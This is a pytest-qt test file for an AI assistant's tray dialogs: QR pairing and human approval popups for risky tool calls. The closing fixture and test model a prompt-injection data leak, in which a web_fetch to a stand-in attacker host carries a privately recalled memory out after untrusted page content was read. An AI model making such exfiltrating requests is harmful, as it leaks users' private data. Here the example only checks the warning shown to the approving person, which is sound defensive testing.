"""The tray's dialogs, driven with pytest-qt offscreen, with plain data and no Relay or model."""

import subprocess
import time
from pathlib import Path
from typing import Any

from PySide6.QtCore import Qt

from app.policy.approvals import ApprovalRequest, args_digest
from app.policy.gate import Risk, Role
from app.tray.approval_dialog import ApprovalDialog
from app.tray.qr_dialog import PairingDialog

URL = (
    "http://127.0.0.1:8470/app/#v=1&r=http%3A%2F%2F127.0.0.1%3A8470&n=node&p=pair&s=c2VjcmV0&k=a2V5"
)


def _request(
    expires_in: float = 60, channel: str = "device-1234", role: Role = Role.OWNER
) -> ApprovalRequest:
    args = {"path": "report.docx"}
    return ApprovalRequest(
        approval_id="a1",
        tool="files_delete",
        arguments=args,
        digest=args_digest("files_delete", args),
        risk=Risk.HIGH,
        requester="owner" if role is Role.OWNER else channel,
        requester_role=role,
        channel=channel,
        reason="'files_delete' is HIGH risk",
        expires_at=time.time() + expires_in,
        target="/home/mika/ORA files/report.docx",
    )


def test_qr_code_decodes_to_the_exact_url(qtbot: Any, tmp_path: Path) -> None:
    dialog = PairingDialog(URL, time.time() + 300)
    qtbot.addWidget(dialog)
    dialog.show()
    path = tmp_path / "qr.png"
    dialog.grab().save(str(path))
    out = subprocess.run(
        ["zbarimg", "--raw", "-q", "--nodbus", str(path)],
        capture_output=True,
        text=True,
        timeout=20,
    )
    assert out.stdout.strip() == URL
    assert "4:5" in dialog.countdown.text() or "5:00" in dialog.countdown.text()


def test_expired_code_is_greyed_and_new_code_is_offered(qtbot: Any) -> None:
    dialog = PairingDialog(URL, time.time() + 1.2)
    qtbot.addWidget(dialog)
    qtbot.waitUntil(lambda: not dialog.qr.isEnabled(), timeout=4000)
    assert "expired" in dialog.qr.text()
    with qtbot.waitSignal(dialog.new_code_requested, timeout=1000):
        qtbot.mouseClick(dialog.new_code, Qt.MouseButton.LeftButton)
    dialog.show_invitation(URL + "x", time.time() + 300)
    assert dialog.qr.isEnabled() and dialog.qr.pixmap() is not None


def test_approve_and_deny_buttons(qtbot: Any) -> None:
    for button, expected in (("approve_button", True), ("deny_button", False)):
        dialog = ApprovalDialog(_request())
        qtbot.addWidget(dialog)
        assert (
            "Delete a file" in dialog.summary.text()
            and "report.docx" in dialog.arguments.toPlainText()
        )
        assert dialog.windowFlags() & Qt.WindowType.WindowStaysOnTopHint
        with qtbot.waitSignal(dialog.decided, timeout=1000) as blocker:
            qtbot.mouseClick(getattr(dialog, button), Qt.MouseButton.LeftButton)
        assert blocker.args == [expected]


def test_keyboard_never_approves_by_accident(qtbot: Any) -> None:
    for key in (Qt.Key.Key_Return, Qt.Key.Key_Escape):
        dialog = ApprovalDialog(_request())
        qtbot.addWidget(dialog)
        dialog.show()
        dialog.deny_button.setFocus()
        with qtbot.waitSignal(dialog.decided, timeout=1000) as blocker:
            qtbot.keyClick(dialog, key)
        assert blocker.args == [False]


def test_timeout_and_answered_elsewhere_close_the_popup(qtbot: Any) -> None:
    dialog = ApprovalDialog(_request(expires_in=1.2))
    qtbot.addWidget(dialog)
    dialog.show()
    qtbot.waitUntil(lambda: dialog.outcome == "expired", timeout=4000)
    assert not dialog.isVisible()
    other = ApprovalDialog(_request())
    qtbot.addWidget(other)
    other.show()
    other.resolved_elsewhere("approved")
    assert not other.isVisible() and other.outcome == "approved"


def test_bridge_carries_a_core_approval_to_the_popup_and_back(qtbot: Any, tmp_path: Path) -> None:
    from app.core.assistant import TurnRequest
    from app.policy.gate import Risk as R
    from app.tools.spec import ToolSpec
    from app.tray.bridge import CoreBridge
    from tests.support.fixtures import open_runtime

    bridge = CoreBridge()
    runtime = bridge.submit(open_runtime(tmp_path, None)).result(10)
    ran: list[str] = []

    async def delete(ctx: Any, args: dict[str, Any]) -> dict[str, Any]:
        ran.append(args["path"])
        return {"deleted": args["path"]}

    runtime.registry.add(
        ToolSpec(
            name="files_purge",
            description="purge",
            parameters={"type": "object"},
            risk=R.HIGH,
            handler=delete,
        )
    )
    bridge.watch_approvals(runtime.broker)
    popups: list[ApprovalDialog] = []

    def on_request(request: ApprovalRequest) -> None:
        popup = ApprovalDialog(request)
        qtbot.addWidget(popup)
        popup.decided.connect(lambda approve: bridge.answer(runtime.broker, request, approve))
        popups.append(popup)
        popup.show()

    bridge.approval_requested.connect(on_request)

    async def call() -> list[Any]:
        req = TurnRequest(text="", user_id="owner", role=Role.OWNER, channel="device-phone")
        return [
            e async for e in runtime.assistant.call_tool(req, "files_purge", {"path": "old.log"})
        ]

    pending = bridge.submit(call())
    qtbot.waitUntil(lambda: bool(popups), timeout=5000)
    qtbot.mouseClick(popups[0].approve_button, Qt.MouseButton.LeftButton)
    events = pending.result(10)
    assert ran == ["old.log"] and events[-1].outcome == "ok"
    assert runtime.audit.rows()[0]["approver"] == "owner"
    bridge.submit(runtime.close()).result(10)
    bridge.stop()


def test_dialogs_speak_japanese_with_the_translation_installed(qtbot: Any, qapp: Any) -> None:
    from app.tray import i18n

    translator = i18n.install(qapp, "ja")
    assert translator is not None
    try:
        dialog = ApprovalDialog(_request(channel="tray"))
        qtbot.addWidget(dialog)
        assert dialog.approve_button.text() == "承認" and dialog.deny_button.text() == "拒否"
        assert (
            "ファイルを削除する" in dialog.summary.text() and "リスク: 高" in dialog.summary.text()
        )
        assert dialog.origin.text() == "依頼した人: あなた（所有者） · 端末: この PC"
        pairing = PairingDialog(URL, time.time() + 300)
        qtbot.addWidget(pairing)
        assert pairing.new_code.text() == "新しいコード" and "有効期限" in pairing.countdown.text()
    finally:
        qapp.removeTranslator(translator)
    english = ApprovalDialog(_request())
    qtbot.addWidget(english)
    assert english.approve_button.text() == "Approve"


def test_the_popup_names_the_action_its_whole_target_the_person_and_the_device(
    qtbot: Any,
) -> None:
    """What a person judges by: a human name for the tool, the full path, who asked on which
    device (by name, never an id prefix), and a countdown that counts."""
    dialog = ApprovalDialog(_request(channel="d-guest-1", role=Role.GUEST), "Mika's phone")
    qtbot.addWidget(dialog)
    dialog.show()
    assert "Delete a file" in dialog.summary.text() and "risk: high" in dialog.summary.text()
    assert "files_delete" not in dialog.summary.text()
    assert dialog.target.isVisible()
    assert dialog.target.text() == "/home/mika/ORA files/report.docx"
    assert dialog.origin.text() == "Asked by a guest on Mika's phone"
    assert "d-guest" not in dialog.origin.text()
    first = dialog.countdown.text()
    qtbot.waitUntil(lambda: dialog.countdown.text() != first, timeout=2500)
    assert int(first.split()[-2]) > int(dialog.countdown.text().split()[-2])


def _tainted_request() -> ApprovalRequest:
    args = {"url": "https://attacker.example/c?d=dentist+at+4"}
    return ApprovalRequest(
        approval_id="a2",
        tool="web_fetch",
        arguments=args,
        digest=args_digest("web_fetch", args),
        risk=Risk.MEDIUM,
        requester="owner",
        requester_role=Role.OWNER,
        channel="tray",
        reason="'web_fetch' could send data out ...",
        expires_at=time.time() + 60,
        details={
            "sends_to": "https://attacker.example/c?d=dentist+at+4",
            "body": "",
            "untrusted_sources": [{"tool": "web_fetch", "where": "https://recipes.example/%1"}],
            "private_reads": [{"tool": "memory_recall", "what": "{}", "excerpt": "dentist at 4"}],
        },
    )


def test_the_taint_disclosure_speaks_the_trays_language(qtbot: Any, qapp: Any) -> None:
    """What would leave, to where, and the turn's private reads: in Japanese with the
    translation installed, in English without; the untrusted address is shown as it is."""
    from app.tray import i18n

    translator = i18n.install(qapp, "ja")
    assert translator is not None
    try:
        dialog = ApprovalDialog(_tainted_request())
        qtbot.addWidget(dialog)
        shown = dialog.arguments.toPlainText()
        assert "送信先: https://attacker.example/c?d=dentist+at+4" in shown
        assert "信頼できない内容（ウェブページを取得する https://recipes.example/%1）" in shown
        assert (
            "この会話で読み取られた個人データ" in shown
            and "memory_recall {}: dentist at 4" in shown
        )
        assert "Sends to" not in shown
    finally:
        qapp.removeTranslator(translator)
    english_dialog = ApprovalDialog(_tainted_request())
    qtbot.addWidget(english_dialog)
    english = english_dialog.arguments.toPlainText()
    assert "Sends to: https://attacker.example/c?d=dentist+at+4" in english
    assert "Private data read in this turn" in english and "送信先" not in english
